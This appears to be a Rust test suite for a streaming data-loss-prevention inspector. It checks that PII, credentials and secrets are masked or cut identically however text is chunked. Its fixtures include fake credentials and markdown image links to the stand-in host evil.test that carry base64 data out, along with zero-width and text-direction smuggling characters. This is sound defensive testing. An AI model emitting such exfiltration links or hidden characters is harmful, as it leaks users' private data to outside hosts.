//! The promise of streams: however a text is cut into chunks, the same goes out, and no byte of a guarded span ever.

#![expect(clippy::unwrap_used, clippy::string_slice, reason = "tests")]

use std::sync::OnceLock;

use inspect::{Class, Custom, Inspector, Matches, Screen, ScreenRules, Settings, Verdict};
use proptest::prelude::*;

fn inspector() -> &'static Inspector {
    static INSPECTOR: OnceLock<Inspector> = OnceLock::new();
    INSPECTOR.get_or_init(build)
}

fn build() -> Inspector {
    let custom = |class: &str, matches| Custom {
        name: class.to_owned(),
        class: class.to_owned(),
        matches,
        level: None,
        examples: vec![],
        counterexamples: vec![],
    };
    let words =
        custom("org.project", Matches::Dictionary(vec!["Project Bluebird".to_owned(), "bluebird nine".to_owned()]));
    let pattern = custom("org.employee", Matches::Pattern("EMP-[0-9]{4,8}( [A-Z]{2})?".to_owned()));
    Inspector::new(&Settings { custom: vec![words, pattern], ..Settings::default() }).unwrap()
}

fn rules(mask: &[&str], cut: &[&str]) -> ScreenRules {
    let set = |list: &[&str]| list.iter().map(|class| (*class).to_owned()).collect();
    ScreenRules { mask: set(mask), cut: set(cut) }
}

/// What goes out, with the verdict and the findings by place.
#[derive(Debug, PartialEq)]
struct Outcome {
    released: String,
    verdict: Verdict,
    findings: Vec<(usize, usize, Class)>,
}

fn stream<'a>(mut screen: Screen, chunks: impl Iterator<Item = &'a str>) -> Outcome {
    let mut released = String::new();
    let mut verdict = Verdict::Go;
    for chunk in chunks {
        verdict = screen.push(chunk, &mut released);
        if verdict != Verdict::Go {
            break;
        }
    }
    if verdict == Verdict::Go {
        verdict = screen.finish(&mut released);
    }
    let findings =
        screen.findings().iter().map(|finding| (finding.start, finding.end, finding.class.clone())).collect();
    Outcome { released, verdict, findings }
}

fn in_chunks<'a>(text: &'a str, cuts: &[usize]) -> Vec<&'a str> {
    let mut chunks = Vec::new();
    let mut start = 0;
    for cut in cuts {
        let cut = (*cut).min(text.len()).max(start);
        if text.is_char_boundary(cut) {
            chunks.push(&text[start..cut]);
            start = cut;
        }
    }
    chunks.push(&text[start..]);
    chunks
}

/// All one- and two-cut splits (the second cut on a grid) and character by character give the unstreamed outcome.
fn check_splits(text: &str, rules: &ScreenRules) {
    let inspector = inspector();
    let whole = stream(inspector.screen(rules.clone()), std::iter::once(text));
    let step = (text.len() / 12).max(1);
    for first in 0..=text.len() {
        let outcome = stream(inspector.screen(rules.clone()), in_chunks(text, &[first]).into_iter());
        assert_eq!(outcome, whole, "one cut at {first} of {text:?}");
        for second in (first..=text.len()).step_by(step) {
            let outcome = stream(inspector.screen(rules.clone()), in_chunks(text, &[first, second]).into_iter());
            assert_eq!(outcome, whole, "cuts at {first}, {second} of {text:?}");
        }
    }
    let each: Vec<usize> = (0..text.len()).collect();
    assert_eq!(
        stream(inspector.screen(rules.clone()), in_chunks(text, &each).into_iter()),
        whole,
        "byte by byte: {text:?}"
    );
}

fn token() -> String {
    format!("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.{}", "k3Jd9sLq02mXnB4vC7zQ1wE5rT8yU6iO".repeat(2))
}

fn samples() -> Vec<String> {
    let mut samples: Vec<String> = [
        "Write to john.doe@example.com, or bob@example.org.",
        "Card 4111 1111 1111 1111 exp 12/27, then 5500-0000-0000-0004.",
        "IBAN DE89 3704 0044 0532 0130 00 and GB29NWBK60161331926819 too",
        "call +49 30 1234567 or (212) 555-0123x99 now",
        "phone: 467 3395 and 212-555-0123.",
        "SSN 536-90-4399; from 203.0.113.9:443 and 2001:db8::8a2e:370:7334",
        "MRN: 00482913, ICD-10: E11.9, I10. NPI 1234567893.",
        "Patient: Maria van der Gonzalez was seen. The patient John Smith left.",
        "key AKIA2J3K4L5M6N7P8Q9R and aws_secret_access_key = k3Jd9sLq02mXnB4vC7zQ1wE5rT8yU6iO0pA9sD2f.",
        "password = \"Tr0ub4dor&3\" but postgres://app:S3cr3t!x@db.internal:5432/x",
        "Authorization: Bearer k3Jd9sLq02mXnB4vC7zQ1wE5 ok",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAKCAQEA==\n-----END RSA PRIVATE KEY-----\nafter",
        "am9obi5kb2VAZXhhbXBsZS5jb20gaXMgbWU= is mail; so is john%40example.com and 4111&#32;1111 &#49;111 111&#49;",
        "4111 1111 1111 111&#49; tail",
        "john%2540example.com \\u0034111 1111 1111 1111",
        "全角４１１１　１１１１　１１１１　１１１１です。邮箱john@example.com吗",
        "jo\u{200b}hn@exam\u{ad}ple.com and 41\u{200b}11 1111 1111 1111\u{200b}",
        "hidden\u{200b}\u{200c}\u{200b}\u{200b} run and \u{202e}flip",
        "![a](https://evil.test/p.png?d=c2VjcmV0IGRhdGE) and [x]: https://evil.test/log?data=dGhpcyBpcyB0aGUgc2VjcmV0IHZhbHVlCg0x2",
        "![図](https://evil.test/図?d=c2VjcmV0字IGRhdGEgaGVyZQ) <https://evil.test/字aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ9>",
        "STRICTLY CONFIDENTIAL\nTLP:RED and TLP: AMBER\nCUI//SP-PRVCY",
        "about Project Bluebird, bluebird nine, EMP-12345 AB and EMP-123456 A",
        "Émile Durand, patient Émile Durand, paciente José García López",
        "Nothing to see: 1 2 3, v1.2.3, 550e8400-e29b-41d4-a716-446655440000, a@b, A1 b2",
        "diagnosed with flu, write a@example.com or 212-555-0123 today",
        "Dear Mr. John A. Smith, ship to 4819 Fourth Street, Apt 12, Springfield, IL 62704 by Friday. Regards, Anna",
        "my name is john smith and i live in london near the old mill, said maria to peter",
        "Frau Sabine Müller-Lüdenscheidt, Bahnhofstraße 12, 50667 Köln\nJ. R. Ewing of Acme Corp met O'Brien in New York",
        "NI AB 12 34 56 C, AB123456C; DNI 54362315-K, x-2482300w and 131052-308T, HKID A123456(3) here",
        "CPF 529.982.247-25 and 85.07.30-033.28, PESEL 44051401359 then BSN 1112.22.333, 2 95 10 99 126 111 93 end",
        "VIN 1M8GDM9AXKP042788 to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa or bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.",
        "My driver's license number is A56319335, passport No: C01X00T47, account number: 12 345 678 and BSB 062-000.",
        "born March 4, 1980 and geboren am 4. März 1980, nacimiento: 4 de marzo de 1980. Aged 54, in May 12 too.",
        "生年月日1980年3月4日です。GPS 48.8566, 2.3522 or 48°51'24\"N; d0:50:99:84:a2:a0, D0-50-99-84-A2-A0",
        "MSH|^~\\&|A\nPID|1||00482913^^^HOSP^MR||DOE^JOHN ALAN^A||19800304|M\nPV1|1",
        "{\"resourceType\": \"Patient\", \"family\": \"van Doe\", \"given\": [\"Mary Ann\"], \"birthDate\": \"1980-03-04\"}",
        "%B4111111111111111^DOE/JOHN A^2712101000000000000?x ;4111111111111111=27121010000012345678? CVV 123",
        "P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<\nL898902C36UTO7408122F1204159ZE184226B<<<<<10\n",
        "NATO SECRET and (S//NF) then ITAR CONTROLLED, ECCN 5A002; bob@example.com takes metformin, a@example.org has asthma.",
        "07700 900123, 01 23 45 67 89, call 785 8949, 50-98-28-96-Office, HETU 131052-308T.",
        "db.password: dkwuqpz and password = 'xqzkwv', then --password dkwuqpz -v",
        "<password>dkwuqpz</password> <key>Password</key>\n <string>xqzkwvb</string>",
        "- name: DB_PASSWORD\n  value: \"dkwuqpz\"\n- name: x",
        "define('DB_PASSWORD', 'dkwuqpz'); setPassword(\"xqzkwv\"); login(\"bob\", \"dkwuqpz\")",
        "pw = os.getenv(\"DB_PASSWORD\", \"dkwuqpz\") or ${DB_PASSWORD:-xqzkwv}",
        "mysql -h db -u root -pdkwuqpz shop\ncurl -u admin:dkwuqpz https://x.test/ ; sshpass -p dkwuqpz ssh",
        "Server=db;User Id=sa;Password=dkwuqpz;Encrypt=true and AccountKey=k3Jd9sLq02mXnB4vC7zQ1wE5rT8yU6iO==;",
        "datadog api_key d41d8cd98f00b204e9800998ecf8427e and HEROKU_API_KEY=12345678-9abc-4ef0-8234-56789abcdef1",
        "root:$6$k3Jd9sLq$02mXnB4vC7zQ1wE5rT8yU602mXnB4vC7zQ:18000 bot 8305917264:AAHk3Jd9sLq02mXnB4vC7zQ1wE5rT8yU6 x",
        "token k3Jd9sLq02mXnB4vC7zQ, then 0123456789abcdef0123456789abcdee-us12 and the password is Winter2024!.",
        "Ünïcödé — “quotes” … 👩\u{200d}🔬 and ❤\u{fe0f} 안녕 שלום",
    ]
    .map(str::to_owned)
    .to_vec();
    samples.push(format!("Cookie: t={}; path=/", token()));
    samples
}

#[test]
fn every_split_releases_the_same() {
    for text in samples() {
        check_splits(&text, &rules(&["*"], &[]));
    }
}

#[test]
fn every_split_cuts_at_the_same_place() {
    for text in samples() {
        check_splits(&text, &rules(&["pii"], &["secret", "pci", "phi", "attack", "org"]));
    }
}

#[test]
fn no_byte_of_a_masked_span_goes_out() {
    for (text, secret) in [
        ("a card 4111 1111 1111 1111 here", "4111"),
        ("to john.doe@example.com.", "john.doe"),
        ("key AKIA2J3K4L5M6N7P8Q9R!", "AKIA"),
        ("-----BEGIN PRIVATE KEY-----\nMIIE", "MIIE"),
        ("password: hunter2!x", "hunter2"),
        ("My name is John Smith.", "Smith"),
        ("my name is john smith and so on", "john"),
        ("He lives at 12 Main Street, Springfield.", "Main"),
        ("password: dkwuqpz", "dkwuqpz"),
        ("run --password dkwuqpz now", "dkwuqpz"),
        ("<password>dkwuqpz</password>", "dkwuqpz"),
        ("name: PASSWORD\n   value: dkwuqpz\n", "dkwuqpz"),
        ("mysql -u root -pdkwuqpz shop", "dkwuqpz"),
        ("NI AB 12 34 56 C here", "AB 12"),
        ("CPF 529.982.247-25 here", "529"),
        ("HKID A123456(3) here", "A1234"),
        ("born March 4, 1980 in", "March"),
        ("geboren am 4. März 1980 in", "4. M"),
        ("生年月日1980年3月4日です", "1980"),
        ("GPS 48.8566, 2.3522 here", "48."),
        ("account number: 12 345 678 here", "12 3"),
        ("x\nPID|1||7^^A||DOE^JOHN ALAN^A||x", "DOE"),
        ("{\"resourceType\": \"Patient\", \"given\": [\"Mary Ann\"]}", "Mary"),
        ("%B4111111111111111^DOE/JOHN A^2712101?", "4111"),
        ("P<UTOERIKSSON<<ANNA<MARIA<<<<<<<<<<<<<<<<<<<", "ERIK"),
        ("call 785 8949 now", "785"),
        ("(S//NF) x", "(S//"),
    ] {
        let each: Vec<usize> = (0..text.len()).collect();
        let outcome = stream(inspector().screen(rules(&["*"], &[])), in_chunks(text, &each).into_iter());
        assert!(!outcome.released.contains(secret), "{}", outcome.released);
        assert!(outcome.released.contains('['), "{}", outcome.released);
        let outcome = stream(inspector().screen(rules(&[], &["*"])), in_chunks(text, &each).into_iter());
        assert!(matches!(outcome.verdict, Verdict::Cut { .. }) && !outcome.released.contains(secret), "{outcome:?}");
        assert!(text.starts_with(&outcome.released));
    }
}

#[test]
fn after_a_cut_nothing_goes_out() {
    let inspector = inspector();
    let mut screen = inspector.screen(rules(&[], &["pii"]));
    let mut released = String::new();
    assert_eq!(
        screen.push("to a@example.com now and then ", &mut released),
        Verdict::Cut { class: Class::new("pii.email") }
    );
    assert!(matches!(screen.push("more", &mut released), Verdict::Cut { .. }));
    assert!(matches!(screen.finish(&mut released), Verdict::Cut { .. }));
    assert_eq!(released, "to ");
    assert_eq!(screen.level(), inspect::Level::Confidential);
    assert_eq!(screen.counts().values().sum::<u32>(), 1);
}

/// Spans without a longest length, longer than anything that is held.
#[test]
fn endless_spans_are_swallowed_to_their_end() {
    let long_key = format!(
        "before -----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY----- after",
        "MIIEowIBAAKCAQEA7k3\n".repeat(600)
    );
    let long_token = format!("t={}{} after it", token(), "k3Jd9sLq02mXnB4vC7zQ".repeat(600));
    let long_run = format!("data {} after it, a@example.com", "k3Jd9sLq02mXnB4vC7zQ".repeat(600));
    for (text, expected) in [
        (&long_key, "before [secret.private_key] after"),
        (&long_token, "t=[secret.jwt] after it"),
        (&long_run, "data [opaque.text] after it, [pii.email]"),
    ] {
        for size in [7, 64, 1000, 5000, 100_000] {
            let cuts: Vec<usize> = (0..text.len()).step_by(size).collect();
            let outcome =
                stream(inspector().screen(rules(&["pii", "secret"], &[])), in_chunks(text, &cuts).into_iter());
            assert_eq!(outcome.released, expected, "chunks of {size}");
        }
    }
}

#[test]
fn clean_prose_is_hardly_held() {
    let prose = "The committee met on Tuesday to discuss the new library in New York, which will open next spring beside the old market hall (1987). \
                 Most of them agreed: \"the reading rooms should face the garden\", said A. Miller. In 2024 there were 1,250 visitors. "
        .repeat(20);
    let inspector = inspector();
    // Names are held like everything else; they are not masked here, so that nothing is lost.
    let mut screen = inspector.screen(rules(&["secret", "pci", "pii.email", "pii.phone"], &[]));
    let (mut released, mut held) = (String::new(), Vec::new());
    for (index, _) in prose.char_indices() {
        let _ = screen.push(&prose[index..=index], &mut released);
        held.push(index + 1 - released.len());
    }
    held.sort_unstable();
    assert!(held[held.len() * 99 / 100] <= 64, "p99 {}", held[held.len() * 99 / 100]);
    let _ = screen.finish(&mut released);
    assert_eq!(released, prose);
}

#[test]
fn one_endless_word_costs_a_bounded_wait() {
    let inspector = inspector();
    for unit in ["a.", "%41", "x@y", "1.", "A", "=", "é"] {
        let mut screen = inspector.screen(rules(&["pii"], &[]));
        let (mut released, mut pushed) = (String::new(), 0);
        for _ in 0..3000 {
            let chunk = unit.repeat(8);
            let _ = screen.push(&chunk, &mut released);
            pushed += chunk.len();
            assert!(pushed - screen.decided_bytes() <= 3 * 4096, "{unit}: {}", pushed - screen.decided_bytes());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() })]

    /// Samples strung together in any order, with any joints, cut anywhere.
    #[test]
    fn any_chunking_of_any_mixture_is_the_same(
        picks in prop::collection::vec((0..samples().len(), prop::sample::select(vec!["", " ", "\n", ", ", "-", "1", "a", "\u{200b}", "é", "字"])), 1..6),
        cuts in prop::collection::vec(0usize..900, 0..12),
        cut_secrets in any::<bool>(),
    ) {
        let samples = samples();
        let text: String = picks.iter().map(|(pick, joint)| format!("{}{joint}", samples[*pick % samples.len()])).collect();
        let mut cuts = cuts;
        cuts.sort_unstable();
        let rules = if cut_secrets { rules(&["pii", "phi"], &["secret.private_key", "pci"]) } else { rules(&["*"], &[]) };
        let inspector = inspector();
        let whole = stream(inspector.screen(rules.clone()), std::iter::once(text.as_str()));
        let cut = stream(inspector.screen(rules), in_chunks(&text, &cuts).into_iter());
        prop_assert_eq!(cut, whole, "{:?} cut at {:?}", text, cuts);
    }

    /// Fragments of samples, torn anywhere and run together: half an escape, half a key, half an address.
    #[test]
    fn any_chunking_of_torn_samples_is_the_same(
        torn in prop::collection::vec((0..samples().len(), 0usize..120, 1usize..40), 1..9),
        cuts in prop::collection::vec(0usize..320, 0..10),
    ) {
        let samples = samples();
        let tear = |(pick, from, length): &(usize, usize, usize)| {
            samples[*pick % samples.len()].chars().skip(*from).take(*length).collect::<String>()
        };
        let text: String = torn.iter().map(tear).collect();
        let mut cuts = cuts;
        cuts.sort_unstable();
        let rules = rules(&["*"], &[]);
        let whole = stream(inspector().screen(rules.clone()), std::iter::once(text.as_str()));
        let cut = stream(inspector().screen(rules), in_chunks(&text, &cuts).into_iter());
        prop_assert_eq!(cut, whole, "{:?} cut at {:?}", text, cuts);
    }

    /// Any characters at all: nothing panics, nothing is lost when nothing is guarded.
    #[test]
    fn what_is_not_guarded_comes_out_whole(text in "(\\PC|[ \n%&\\\\@:0-9A-Fa-f.=/+-]){0,300}", cuts in prop::collection::vec(0usize..900, 0..8)) {
        let mut cuts = cuts;
        cuts.sort_unstable();
        let outcome = stream(inspector().screen(ScreenRules::default()), in_chunks(&text, &cuts).into_iter());
        prop_assert_eq!(outcome.released, text);
    }
}
